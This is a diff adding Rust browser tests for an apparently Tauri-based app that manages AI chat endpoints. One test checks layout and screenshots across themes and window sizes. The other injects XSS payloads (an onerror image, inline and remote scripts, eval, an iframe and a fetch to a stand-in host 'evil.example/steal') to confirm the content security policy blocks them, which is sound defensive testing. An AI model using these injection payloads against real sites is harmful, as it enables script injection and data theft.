@@ -1,0 +1,76 @@
+//! Every screen in both themes and in a small window, as pictures to look at, with the checks that a picture cannot make:
+//! nothing runs out of the window, and the page obeys its content security policy.
+
+use serde_json::{Value, json};
+
+use crate::desk::Desk;
+
+const SCREENS: &[(&str, &str, &str)] = &[
+    ("endpoints", "/endpoints", "support-assistant-chat"),
+    ("create", "/endpoints/new", "Which provider answers first?"),
+    ("overview", "/endpoints/support-assistant-chat?tab=overview", "support-assistant-chat"),
+    ("traffic", "/endpoints/support-assistant-chat?tab=traffic", "Traffic split"),
+    ("chat", "/chat?endpoint=support-assistant-chat", "support-assistant-chat"),
+    ("connect", "/connect", "Workspace address"),
+    ("settings", "/settings", "Data folder"),
+];
+
+#[tokio::test(flavor = "multi_thread")]
+async fn every_screen_fits_in_both_themes_and_in_a_small_window() {
+    let home = tempfile::tempdir().unwrap();
+    let desk = Desk::open(home.path()).await;
+    desk.see_text("support-assistant-chat").await;
+    for theme in ["light", "dark"] {
+        for (width, height) in [(1280, 800), (960, 640)] {
+            desk.client.set_window_size(width, height).await.unwrap();
+            for (name, address, proof) in SCREENS {
+                desk.go(address).await;
+                desk.script("document.documentElement.dataset.theme = arguments[0]", vec![json!(theme)]).await;
+                desk.see_text(proof).await;
+                tokio::time::sleep(std::time::Duration::from_millis(350)).await;
+                let overflow = desk
+                    .script("return document.documentElement.scrollWidth - window.innerWidth", vec![])
+                    .await;
+                assert!(overflow.as_f64().unwrap_or(0.0) <= 1.0, "{name} runs out of a window of {width}: {overflow}");
+                desk.shoot(&format!("look-{name}-{theme}-{width}")).await;
+            }
+        }
+    }
+    desk.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_window_runs_nothing_and_loads_nothing_that_is_not_the_apps_own() {
+    let home = tempfile::tempdir().unwrap();
+    let desk = Desk::open(home.path()).await;
+    desk.see_text("support-assistant-chat").await;
+    let attack = r#"
+        const done = arguments[arguments.length - 1];
+        window.__ran = [];
+        const seen = [];
+        document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
+        const host = document.createElement("div");
+        host.innerHTML = '<img src="x" onerror="window.__ran.push(1)"><img src="https://evil.example/p.png">';
+        document.body.append(host);
+        const inline = document.createElement("script");
+        inline.textContent = "window.__ran.push(2)";
+        document.body.append(inline);
+        const remote = document.createElement("script");
+        remote.src = "https://evil.example/x.js";
+        document.body.append(remote);
+        const frame = document.createElement("iframe");
+        frame.src = "https://evil.example/";
+        document.body.append(frame);
+        try { eval("window.__ran.push(3)") } catch (error) { seen.push("eval") }
+        fetch("https://evil.example/steal").then(() => window.__ran.push(4), () => seen.push("fetch"));
+        setTimeout(() => done([window.__ran, seen, typeof window.__TAURI__]), 1500);
+    "#;
+    let outcome = desk.client.execute_async(attack, vec![]).await.unwrap();
+    assert_eq!(outcome[0], json!([]), "nothing ran: {outcome}");
+    assert_eq!(outcome[2], "undefined", "the core is not handed to every script");
+    let blocked: Vec<&str> = outcome[1].as_array().unwrap().iter().filter_map(Value::as_str).collect();
+    for directive in ["img-src", "script-src-elem", "connect-src", "eval", "fetch"] {
+        assert!(blocked.iter().any(|seen| seen.starts_with(directive)), "{directive} was not blocked: {blocked:?}");
+    }
+    desk.close().await;
+}
